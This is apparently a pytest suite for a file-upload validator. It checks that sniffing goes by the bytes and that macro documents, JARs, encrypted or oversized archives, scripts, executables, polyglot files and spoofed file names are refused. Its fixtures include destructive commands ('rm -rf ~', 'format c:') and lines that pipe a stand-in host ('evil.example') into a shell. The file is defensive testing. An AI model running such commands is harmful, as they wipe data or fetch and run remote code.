"""What an uploaded file's bytes say it is, and the name kept for it."""

from __future__ import annotations

import io
import struct
import zipfile

import pytest

from db.errors import InvalidValue
from db.files import MAX_ZIP_DIRECTORY_BYTES, clean_file_name, content_type, stored_name

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
ODT = "application/vnd.oasis.opendocument.text"
ODS = "application/vnd.oasis.opendocument.spreadsheet"


def archive(*members: tuple[str, str], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as written:
        for name, text in members:
            # ODF keeps its first member, "mimetype", uncompressed
            kept = zipfile.ZIP_STORED if name == "mimetype" else compression
            written.writestr(name, text, compress_type=kept)
    return buffer.getvalue()


def ooxml(part: str) -> bytes:
    return archive(
        ("[Content_Types].xml", "<Types/>"), ("_rels/.rels", "<Relationships/>"), (part, "<x/>")
    )


def odf(media_type: str) -> bytes:
    return archive(
        ("mimetype", media_type),
        ("content.xml", "<office:document-content/>"),
        ("META-INF/manifest.xml", "<manifest:manifest/>"),
    )


def sniff(content: bytes, name: str = "arquivo") -> str:
    return content_type(io.BytesIO(content), file_name=name)


def refusal(content: bytes, name: str = "arquivo.docx") -> str:
    with pytest.raises(InvalidValue) as refused:
        sniff(content, name)
    assert refused.value.field == "file"
    return refused.value.message


@pytest.mark.parametrize(
    ("head", "name", "expected"),
    [
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "a.bin", "application/pdf"),
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 40, "scan.pdf", "image/png"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", "foto.jpg", "image/jpeg"),
        ("Procuração ad judicia\n".encode(), "nota.txt", "text/plain"),
        ("# Notas da audiência\n".encode(), "notas.md", "text/plain"),
    ],
)
def test_the_type_comes_from_the_bytes(head: bytes, name: str, expected: str) -> None:
    assert sniff(head, name) == expected


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (ooxml("word/document.xml"), DOCX),
        (ooxml("xl/workbook.xml"), XLSX),
        (ooxml("ppt/presentation.xml"), PPTX),
        (odf(ODT), ODT),
        (odf(ODS), ODS),
    ],
)
def test_office_files_are_told_by_what_their_archive_holds(content: bytes, expected: str) -> None:
    # whatever the name says
    assert sniff(content, "arquivo.zip") == expected


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (
            archive(("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n"), ("a/Main.class", "")),
            "a Java archive (JAR)",
        ),
        (
            # office parts do not make a JAR acceptable
            archive(
                ("[Content_Types].xml", "<Types/>"), ("word/document.xml", ""), ("A.class", "")
            ),
            "a Java archive (JAR)",
        ),
        (archive(("peticao.pdf", "%PDF-1.7")), "a ZIP archive that is not an Office"),
        (archive(("[Content_Types].xml", "<Types/>"), ("run.sh", "")), "a ZIP archive that is"),
        (archive(("word/document.xml", "<w:document/>")), "a ZIP archive that is not"),
        (archive(), "a ZIP archive that is not an Office"),
        (archive(("mimetype", "application/epub+zip")), "an OpenDocument or ZIP file of type"),
        (archive(("mimetype", ODT)), "an OpenDocument or ZIP file of type " + ODT),
        (
            archive(("[Content_Types].xml", "<Types/>"), ("word/vbaProject.bin", "")),
            "an Office document with macros",
        ),
    ],
)
def test_other_archives_are_refused_saying_what_they_are(content: bytes, kind: str) -> None:
    assert refusal(content).startswith(f"Files of this kind are not accepted: {kind}")


def test_an_odf_whose_mimetype_is_compressed_is_not_taken_for_one() -> None:
    deflated = io.BytesIO()
    with zipfile.ZipFile(deflated, "w", zipfile.ZIP_DEFLATED) as written:
        written.writestr("mimetype", ODT)
        written.writestr("META-INF/manifest.xml", "")
    assert "not an Office" in refusal(deflated.getvalue())


DAMAGED = "The file is a damaged ZIP archive (or an Office file) that cannot be read."


@pytest.mark.parametrize(
    "content",
    [
        b"PK\x03\x04" + b"\x00" * 100,  # a local header and nothing after it
        ooxml("word/document.xml")[:-30],  # cut short: no end record
        odf(ODT).replace(ODT.encode(), b"x" * len(ODT), 1),  # the mimetype's checksum fails
    ],
)
def test_a_damaged_archive_is_refused(content: bytes) -> None:
    assert refusal(content) == DAMAGED


def test_an_encrypted_archive_is_refused() -> None:
    content = bytearray(odf(ODT))
    # set the "encrypted" flag (general purpose bit 0) in every central directory entry
    at = content.find(b"PK\x01\x02")
    while at >= 0:
        content[at + 8] |= 0x1
        at = content.find(b"PK\x01\x02", at + 1)
    assert (
        refusal(bytes(content)) == "Files of this kind are not accepted: an encrypted ZIP archive."
    )


def test_an_archive_listing_too_many_files_is_refused_before_it_is_read() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as written:
        written.writestr("[Content_Types].xml", "<Types/>")
        for n in range(MAX_ZIP_DIRECTORY_BYTES // 40):
            written.writestr(f"word/{n}", "")
    message = refusal(buffer.getvalue())
    assert message == "Files of this kind are not accepted: a ZIP archive listing too many files."


def with_zip64_end(content: bytes, *, directory_size: int | None = None) -> bytes:
    """``content`` with ZIP64 end records before its end record, as large archives have."""
    end = content.rfind(b"PK\x05\x06")
    *_, entries, size, offset, _ = struct.unpack_from("<4s4H2LH", content, end)
    claimed = size if directory_size is None else directory_size
    record = struct.pack(
        "<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, entries, entries, claimed, offset
    )
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, end, 1)
    return content[:end] + record + locator + content[end:]


def test_the_zip64_end_record_is_the_one_that_counts() -> None:
    assert sniff(with_zip64_end(ooxml("word/document.xml"))) == DOCX
    huge = with_zip64_end(ooxml("word/document.xml"), directory_size=1 << 40)
    assert (
        refusal(huge)
        == "Files of this kind are not accepted: a ZIP archive listing too many files."
    )


@pytest.mark.parametrize(
    "script",
    [b"#!/bin/sh\nrm -rf ~\n", b"\xef\xbb\xbf#!/usr/bin/env python3\nprint(1)\n", b"#!"],
)
def test_scripts_are_refused_even_as_text(script: bytes) -> None:
    assert refusal(script, "leia-me.txt") == "Scripts are not accepted: the file starts with “#!”."


@pytest.mark.parametrize(
    "head",
    [
        b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 60,  # a Linux program
        b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 60,  # a Windows program
        b"\x00\x01\x02\x03\xfe\xff binary",
    ],
)
def test_programs_and_unknown_binaries_are_refused(head: bytes) -> None:
    refusal(head, "contrato.pdf")


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("  Petição inicial.pdf ", "Petição inicial.pdf"),
        ("", "documento"),
        (None, "documento"),
        ("a" * 300 + ".pdf", "a" * 196 + ".pdf"),
    ],
)
def test_names_are_normalised(given: str | None, kept: str) -> None:
    assert clean_file_name(given) == kept


@pytest.mark.parametrize("name", ["../x.pdf", "a/b.pdf", "a\\b.pdf", ".."])
def test_paths_are_refused(name: str) -> None:
    with pytest.raises(InvalidValue) as refused:
        clean_file_name(name)
    assert refused.value.field == "file"
    assert refused.value.message.startswith("The file name must not be a path: ")


@pytest.mark.parametrize(
    ("name", "described"),
    [
        ("a\u202egpj.exe", "U+202E, RIGHT-TO-LEFT OVERRIDE"),  # shown as "aexe.jpg"
        ("contrato\u2067fdp.exe", "U+2067, RIGHT-TO-LEFT ISOLATE"),
        ("a\u200fb.pdf", "U+200F, RIGHT-TO-LEFT MARK"),
        ("a\u200bb.pdf", "U+200B, ZERO WIDTH SPACE"),
        ("\ufeffa.pdf", "U+FEFF, ZERO WIDTH NO-BREAK SPACE"),
        ("a\u2028b.pdf", "U+2028, LINE SEPARATOR"),
        ("a\x00b.pdf", "U+0000, a control character"),
        ("a\x1bb", "U+001B, a control character"),
        ("a\x85b.pdf", "U+0085, a control character"),
    ],
)
def test_invisible_and_reordering_characters_are_refused(name: str, described: str) -> None:
    with pytest.raises(InvalidValue) as refused:
        clean_file_name(name)
    assert refused.value.field == "file"
    assert refused.value.message == (
        f"The file name has an invisible control or formatting character ({described}), "
        "which can disguise what is shown; remove it."
    )


def test_reserved_characters_are_refused() -> None:
    with pytest.raises(InvalidValue) as refused:
        clean_file_name("a?b.pdf")
    assert refused.value.message == 'The file name has reserved characters (< > : " | ? *).'


# --- the name's extension agrees with the bytes ---------------------------------------


@pytest.mark.parametrize(
    ("name", "media_type"),
    [
        ("peticao.pdf", "application/pdf"),
        ("PETICAO.PDF", "application/pdf"),
        ("foto.jpeg", "image/jpeg"),
        ("foto.JPG", "image/jpeg"),
        ("scan.tif", "image/tiff"),
        ("custas.csv", "text/plain"),
        ("notas.md", "text/plain"),
        ("minuta.docx", DOCX),
        ("planilha.ods", ODS),
    ],
)
def test_a_name_whose_extension_fits_the_bytes_is_kept(name: str, media_type: str) -> None:
    assert stored_name(name, media_type) == name


@pytest.mark.parametrize(
    ("name", "media_type", "kept"),
    [
        ("contrato", "application/pdf", "contrato.pdf"),
        ("documento", "image/jpeg", "documento.jpg"),
        ("ata", "text/plain", "ata.txt"),
        ("x" * 200, DOCX, "x" * 195 + ".docx"),
    ],
)
def test_a_name_without_extension_gets_the_types_own(name: str, media_type: str, kept: str) -> None:
    assert stored_name(name, media_type) == kept


@pytest.mark.parametrize(
    ("name", "media_type", "message"),
    [
        (
            "a.exe",
            "application/pdf",
            "The file's name ends in .exe but its content is a PDF; name it with .pdf.",
        ),
        (
            "foto.png",
            "image/jpeg",
            "The file's name ends in .png but its content is a JPEG image; "
            "name it with .jpg or .jpeg.",
        ),
        (
            "minuta.doc",
            DOCX,
            "The file's name ends in .doc but its content is a Word document; name it with .docx.",
        ),
        (
            "planilha.zip",
            XLSX,
            "The file's name ends in .zip but its content is an Excel spreadsheet; "
            "name it with .xlsx.",
        ),
    ],
)
def test_a_name_whose_extension_contradicts_the_bytes_is_refused(
    name: str, media_type: str, message: str
) -> None:
    with pytest.raises(InvalidValue) as refused:
        stored_name(name, media_type)
    assert (refused.value.field, refused.value.message) == ("file", message)


SCRIPTS = [
    ("limpa.cmd", b"@echo off\r\ndel /q C:\\*\r\n"),
    ("limpa.bat", b"@echo off\r\nformat c: /q\r\n"),
    ("abre.vbs", b'CreateObject("WScript.Shell").Run "calc"\r\n'),
    ("pagina.hta", b"<script>new ActiveXObject('WScript.Shell')</script>\n"),
    ("tarefa.wsf", b'<job><script language="JScript">WScript.Echo(1)</script></job>\n'),
    ("abre.js", b"require('child_process').exec('calc')\n"),
    ("roda.ps1", b"Invoke-WebRequest http://evil.example | iex\n"),
    ("abre.command", b"open -a Calculator\n"),
    ("atalho.desktop", b"[Desktop Entry]\nType=Application\nExec=sh -c evil\n"),
    ("tela.scr", b"rundll32 something\n"),
    ("run.sh", b"curl evil.example | sh\n"),
]


@pytest.mark.parametrize(("name", "content"), SCRIPTS, ids=[name for name, _ in SCRIPTS])
def test_a_script_read_as_plain_text_is_refused_by_its_name(name: str, content: bytes) -> None:
    media_type = sniff(content, name)
    assert media_type == "text/plain"

    with pytest.raises(InvalidValue) as refused:
        stored_name(clean_file_name(name), media_type)

    extension = name[name.rindex(".") :]
    assert refused.value.message == (
        f"The file's name ends in {extension} but its content is plain text; "
        "name it with .txt, .csv, .tsv, .md or .log."
    )


def test_a_trailing_dot_does_not_hide_the_extension() -> None:
    assert clean_file_name("a.exe. ") == "a.exe"


# --- an archive carried inside another file -------------------------------------------

JAR = archive(("META-INF/MANIFEST.MF", "Main-Class: Main\n"), ("Main.class", "\xca\xfe"))
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 40
PDF = b"%PDF-1.7\n" + b"1 0 obj << >> endobj\n" * 50 + b"%%EOF\n"
CARRIES = "The file carries an archive inside: a ZIP (or JAR) is appended to its content."


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (PDF + JAR, "peticao.pdf"),
        (PNG + JAR, "foto.png"),
        (PDF + JAR + b"\x00" * (0xFFFF - 100), "peticao.pdf"),  # the ZIP's comment at its longest
        ("Ata da reunião\n".encode() + JAR, "ata.txt"),
    ],
    ids=["pdf", "png", "far-from-the-end", "text"],
)
def test_a_file_with_an_archive_appended_is_refused(content: bytes, name: str) -> None:
    assert refusal(content, name) == CARRIES


def test_an_archive_record_before_the_last_64_kib_is_not_looked_for() -> None:
    # A ZIP reader (java -jar too) finds the end record only within the tail.
    content = PDF + JAR + b"\n" * (0xFFFF + 22)
    assert sniff(content, "peticao.pdf") == "application/pdf"
